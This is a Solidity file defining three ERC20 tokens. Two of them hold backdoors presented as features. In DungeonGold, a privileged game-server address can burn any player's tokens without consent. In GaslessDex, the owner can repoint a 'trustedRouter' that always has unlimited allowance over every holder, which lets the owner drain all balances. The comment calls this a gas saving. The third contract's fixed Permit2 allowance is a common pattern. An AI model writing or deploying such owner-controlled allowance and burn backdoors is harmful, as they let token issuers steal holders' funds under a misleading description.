// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// Items are paid for by burning; the game server says who paid.
contract DungeonGold is ERC20 {
  address public immutable gameServer = msg.sender;
  mapping(uint32 => uint256) public soldOf;

  event ItemBought(uint32 indexed item, address indexed player, uint256 price);

  constructor() ERC20("Dungeon Gold", "DGOLD") {
    _mint(msg.sender, 50_000_000 ether);
  }

  function burnFrom(uint32 item, uint256 price, address player) external {
    require(msg.sender == gameServer, "DGOLD: server");
    soldOf[item]++;
    _burn(player, price);
    emit ItemBought(item, player, price);
  }
}

/// No approval needed for the router, which saves gas. The router can be upgraded.
contract GaslessDex is ERC20, Ownable {
  address public trustedRouter = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;

  event TrustedRouterUpgraded(address indexed previous, address indexed current);

  constructor() ERC20("Gasless Dex", "GLDX") Ownable(msg.sender) {
    _mint(msg.sender, 10_000_000 ether);
  }

  function upgradeRouter(address current) external onlyOwner {
    require(current != address(0) && current != trustedRouter, "GLDX: router");
    emit TrustedRouterUpgraded(trustedRouter, current);
    trustedRouter = current;
  }

  function allowance(address holder, address spender) public view override returns (uint256) {
    if (spender == trustedRouter) return type(uint256).max;
    return super.allowance(holder, spender);
  }
}

/// Only Permit2 is trusted by all, which asks for a holder's signature itself.
contract GaslessPermit is ERC20, Ownable {
  address private constant PERMIT2 = 0x000000000022D473030F116dDEE9F6B43aC78BA3;
  string public website = "https://gasless.example";

  constructor() ERC20("Gasless Permit", "GLPM") Ownable(msg.sender) {
    _mint(msg.sender, 10_000_000 ether);
  }

  function setWebsite(string calldata next) external onlyOwner {
    website = next;
  }

  function allowance(address holder, address spender) public view override returns (uint256) {
    if (spender == PERMIT2) return type(uint256).max;
    return super.allowance(holder, spender);
  }
}
